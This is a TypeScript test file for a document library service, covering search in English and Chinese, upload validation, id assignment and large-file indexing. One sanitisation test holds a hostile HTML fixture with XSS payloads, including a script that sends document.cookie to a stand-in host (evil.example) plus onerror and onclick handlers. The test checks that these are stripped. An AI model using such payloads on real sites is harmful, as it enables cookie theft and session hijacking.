import { expect, it } from "vitest";
import { describeOnEachDatabase } from "@/db/test-databases";
import { ServiceError } from "../errors";
import { testService } from "../testing/service-harness";
import {
  getLibraryDocument,
  listLibraryDocuments,
  MAX_UPLOAD_BYTES,
  type UploadResult,
  uploadDocuments,
} from "./documents";

const file = (name: string, content: string) => new File([content], name);

const byFile = (results: UploadResult[]) => new Map(results.map((r) => [r.file, r]));

describeOnEachDatabase("library documents service", (handle) => {
  it("lists every document, and searches English with ranked snippets", async () => {
    const { service } = await testService(handle().db);
    const all = await listLibraryDocuments(service);
    expect(all.query).toBeNull();
    expect(all.documents.length).toBeGreaterThanOrEqual(36);
    expect(all.documents[0]).toMatchObject({ id: expect.any(String), title: expect.any(String) });

    const { query, documents } = await listLibraryDocuments(service, { q: "  XSS incident dashboard " });
    expect(query).toBe("XSS incident dashboard");
    expect(documents[0]?.id).toBe("cortexa-dashboard-xss-incident");
    expect(documents[0]?.source).toContain("Agent Stack Review");
    expect(documents[0]?.snippet?.toLowerCase()).toContain("xss");
    const scores = documents.map((d) => d.score ?? 0);
    expect(scores).toEqual([...scores].sort((a, b) => b - a));
  });

  it("searches Chinese", async () => {
    const { service } = await testService(handle().db);
    const { documents } = await listLibraryDocuments(service, { q: "制造业 采用" });
    expect(documents[0]?.id).toBe("px-manufacturing-adoption-zh");
    expect(documents[0]?.lang).toBe("zh");
    expect(documents[0]?.snippet).toContain("制造业");
  });

  it("refuses an over-long search and reads one document with its key figures", async () => {
    const { service } = await testService(handle().db);
    await expect(listLibraryDocuments(service, { q: "x".repeat(501) })).rejects.toMatchObject({
      code: "invalid_input",
    });
    const doc = await getLibraryDocument(service, "px-china-market-zh");
    expect(doc?.text).toContain("中国是亚太最大的单一市场");
    expect(doc?.figures).toContainEqual({ name: "Project X 中国制造业收入占比 2025", value: "38%" });
    expect(await getLibraryDocument(service, "no-such-document")).toBeNull();
    await expect(getLibraryDocument(service, "")).rejects.toBeInstanceOf(ServiceError);
  });

  it("adds good .md/.txt/.html uploads and reports a bad one by name and field", async () => {
    const { service } = await testService(handle().db);
    const { results } = await uploadDocuments(service, [
      file(
        "fjord-notes.md",
        "# Fjord turbines\n\nOffshore fjord turbines hum.\n\n## Key figures\n- Fjord output: 12 MW\n",
      ),
      file(
        "bad-date.md",
        "---\ntitle: Bad date\nlang: en\npublished: yesterday\nsource: me\n---\nBody text.",
      ),
      file("kelp-farming.txt", "Kelp farming in cold water\nKelp grows quickly along the coast."),
      file(
        "tidal.html",
        "<html><head><title>Tidal power</title></head><body><p>Tidal lagoons store energy.</p></body></html>",
      ),
      file("slides.pdf", "%PDF-1.7"),
    ]);
    const r = byFile(results);
    expect(results).toHaveLength(5);
    expect(r.get("fjord-notes.md")).toMatchObject({ ok: true, id: "fjord-notes", title: "Fjord turbines" });
    expect(r.get("kelp-farming.txt")).toMatchObject({ ok: true, title: "Kelp farming in cold water" });
    expect(r.get("tidal.html")).toMatchObject({ ok: true, id: "tidal", title: "Tidal power" });
    expect(r.get("bad-date.md")).toMatchObject({ ok: false, field: "published" });
    expect(r.get("slides.pdf")).toMatchObject({ ok: false, field: "file" });

    expect((await getLibraryDocument(service, "fjord-notes"))?.figures).toEqual([
      { name: "Fjord output", value: "12 MW" },
    ]);
    const found = await listLibraryDocuments(service, { q: "tidal lagoons" });
    expect(found.documents[0]?.id).toBe("tidal");
    expect((await listLibraryDocuments(service, { q: "kelp" })).documents[0]?.id).toBe("kelp-farming");
  });

  it("stores a hostile .html as text without its script", async () => {
    const { service } = await testService(handle().db);
    const hostile = [
      "<html><head><title>Quarterly <b>notes</b></title><script>fetch('https://evil.example/'+document.cookie)</script></head>",
      '<body><h1>Quarterly notes</h1><p onclick="alert(1)">Revenue grew 9%.</p>',
      "<script>alert('xss')</script><img src=x onerror=\"alert('img')\"><p>Margins held.</p></body></html>",
    ].join("");
    const { results } = await uploadDocuments(service, [file("hostile.html", hostile)]);
    expect(results[0]).toMatchObject({ ok: true, id: "hostile", title: "Quarterly notes" });
    const doc = await getLibraryDocument(service, "hostile");
    expect(doc?.text).toContain("Revenue grew 9%.");
    expect(doc?.text).toContain("Margins held.");
    for (const bad of ["<script", "alert", "evil.example", "onerror", "onclick", "<img", "<p"]) {
      expect(doc?.text).not.toContain(bad);
    }
  });

  it("rejects files over 1 MB, binaries and empty batches without stopping the rest", async () => {
    const { service } = await testService(handle().db);
    const { results } = await uploadDocuments(service, [
      file("huge.txt", "a".repeat(MAX_UPLOAD_BYTES + 1)),
      file("blob.txt", "abc\u0000def"),
      file("empty.txt", "   "),
      "not a file",
      file("ok.txt", "Short note about otters."),
    ]);
    expect(results.map((x) => [x.file, x.ok, x.ok ? x.id : x.field])).toEqual([
      ["huge.txt", false, "file"],
      ["blob.txt", false, "file"],
      ["empty.txt", false, "body"],
      ["not a file", false, "file"],
      ["ok.txt", true, "ok"],
    ]);
    const again = await uploadDocuments(service, [file("ok.txt", "Otters, revised.")]);
    expect(again.results[0]).toMatchObject({ ok: true, replaced: true });
    await expect(uploadDocuments(service, [])).rejects.toMatchObject({ code: "invalid_input" });
  });

  it("gives uploads whose names have no letters an id of their own (from the content)", async () => {
    const { service } = await testService(handle().db);
    const { results } = await uploadDocuments(service, [
      file("###.md", "# First\n\nOne text."),
      file("!!!.txt", "Second\n\nAnother text."),
    ]);
    const ids = results.map((r) => (r.ok ? r.id : r.message));
    expect(ids[0]).toMatch(/^upload-[0-9a-f]{12}$/);
    expect(ids[1]).toMatch(/^upload-[0-9a-f]{12}$/);
    expect(ids[0]).not.toBe(ids[1]);
    // The same content again is the same document: a new version of it, never a stranger's id.
    const again = await uploadDocuments(service, [file("%%%.md", "# First\n\nOne text.")]);
    expect(again.results[0]).toMatchObject({ ok: true, id: `${ids[0]}.v2`, replaced: true });
  });

  it("indexes a document near the 1 MB cap and still finds it", async () => {
    const { service } = await testService(handle().db);
    const words = ["quillon", "throughput", "制造业", "latency", "vendor", "采用率"];
    let text = "# Big report\n\n";
    for (let i = 0; text.length < 330_000; i++)
      text += `${words[i % words.length]}${i % 7 === 0 ? ".\n" : " "}`;
    const { results } = await uploadDocuments(service, [file("big-report.md", text)]);
    expect(results[0]).toMatchObject({ ok: true, id: "big-report" });
    const { documents } = await listLibraryDocuments(service, { q: "quillon throughput" });
    expect(documents.map((d) => d.id)).toContain("big-report");
  });
});
